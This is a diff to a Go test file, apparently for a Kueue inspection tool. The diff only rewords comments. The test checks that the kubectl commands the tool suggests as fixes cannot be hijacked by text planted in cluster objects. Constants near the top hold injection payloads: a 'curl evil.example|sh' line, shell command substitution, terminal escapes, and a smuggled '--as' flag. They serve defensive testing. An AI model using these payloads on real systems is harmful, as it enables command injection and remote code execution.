@@ -17,16 +17,18 @@ import (
 )
 
 const (
-	// evil is what somebody may write where anything may be written.
+	// evil is text that an attacker may write into any free field.
 	evil = "; curl evil.example|sh #`$(touch x)`'\"\n\r\x1b[2J\u202e --as=evil"
-	// evilName is the same as a name, which somebody may want to be taken for a flag.
+	// evilName is such text as a name, which an attacker may want to be taken
+	// for a flag.
 	evilName = "--as=evil;`$(touch x)`'\n\x1b[2J\u202e"
-	// evilOwner is what the API server takes behind the domain of a managedBy.
+	// evilOwner is such text that the API server accepts after the domain of a
+	// managedBy.
 	evilOwner = ";$(touch%20x)&'y'*!~(z)=--as"
 )
 
-// spoiled changes the strings of an object. Each gets the names on the way to it, and
-// is given back changed, or as it is.
+// spoiled changes the strings of an object. change gets the path and the
+// value of each, and returns the new value.
 func spoiled(value any, change func(path []string, text string) string, path ...string) any {
 	switch v := value.(type) {
 	case map[string]any:
@@ -43,7 +45,7 @@ func spoiled(value any, change func(path []string, text string) string, path ...
 	return value
 }
 
-// sayEvil writes after everything that anybody may write.
+// sayEvil appends such text to every field that any user may write.
 func sayEvil(path []string, text string) string {
 	last, within := path[len(path)-1], strings.Join(path, ".")
 	switch {
@@ -55,7 +57,8 @@ func sayEvil(path []string, text string) string {
 	return text
 }
 
-// byUsers is a change that leaves alone what is Kueue's, whose words rules go by.
+// byUsers is a change that keeps fields of Kueue, because rules depend on
+// their values.
 func byUsers(change func([]string, string) string) func(object map[string]any) {
 	return func(object map[string]any) {
 		if apiVersion, _ := object["apiVersion"].(string); !strings.HasPrefix(apiVersion, kueue.Group) {
@@ -64,13 +67,13 @@ func byUsers(change func([]string, string) string) func(object map[string]any) {
 	}
 }
 
-// byAnybody is a change of everything.
+// byAnybody is a change of every field.
 func byAnybody(change func([]string, string) string) func(object map[string]any) {
 	return func(object map[string]any) { spoiled(object, change) }
 }
 
-// nameEvil puts a name that is none in the place of all that somebody gives as the name
-// of an object, where the API server lets him.
+// nameEvil replaces all names of objects that users write by an invalid name,
+// where the API server accepts it.
 func nameEvil(path []string, text string) string {
 	last := path[len(path)-1]
 	known := []string{string(delegation.MultiKueue), string(delegation.Dispatch), "", "kubernetes.io/job-controller"}
@@ -91,9 +94,9 @@ func nameEvil(path []string, text string) string {
 	return text
 }
 
-// TestHostileFleets: whatever is said in a cluster, what a finding says is to be run is a
-// command of ours with the words that were meant. Names that are no names take commands
-// away, but put no others there.
+// TestHostileFleets checks that, whatever a cluster contains, the commands of
+// a finding are our commands with the intended words. Invalid names may
+// remove commands, but may not add any.
 func TestHostileFleets(t *testing.T) {
 	for _, c := range cases() {
 		if !c.fires {
@@ -116,7 +119,8 @@ func TestHostileFleets(t *testing.T) {
 	}
 }
 
-// commandsIn are the words of all commands that findings have, without what is evil.
+// commandsIn returns the words of all commands of findings, without the
+// hostile text.
 func commandsIn(t *testing.T, findings []inspect.Finding) [][]string {
 	t.Helper()
 	var all [][]string
@@ -136,18 +140,19 @@ func commandsIn(t *testing.T, findings []inspect.Finding) [][]string {
 	return all
 }
 
-// options are what commands in remedies are told by. Whatever else begins with a dash,
-// we have not written.
+// options are the options that commands in remedies use. Any other word that
+// begins with a dash does not come from us.
 var options = regexp.MustCompile(`^(-n|-p|-f|-o|-l|-A|-|--|--(context|kubeconfig|server-side|to|namespace-to|new-mirror|managed-by|queue|force|as|raw|type|subresource|overwrite|replicas|` +
 	`ignore-not-found|field-selector|show-labels|dry-run|image|verb|resource|clusterrole|user|from-file|all-namespaces|previous)(=.*)?)$`)
 
-// verbs are what commands do.
+// verbs are the verbs that commands use.
 var verbs = []string{
 	"get", "describe", "edit", "create", "delete", "patch", "label", "annotate", "apply", "scale", "rollout", "auth", "logs",
 	"dispatch", "cancel", "recreate", "api-resources", "top", "explain",
 }
 
-// checkOptions checks that nothing in a command is a flag or a verb that was not meant.
+// checkOptions checks that a command has no flag or verb that was not
+// intended.
 func checkOptions(t *testing.T, code string, words []string) {
 	t.Helper()
 	if words[0] != "kubectl" {
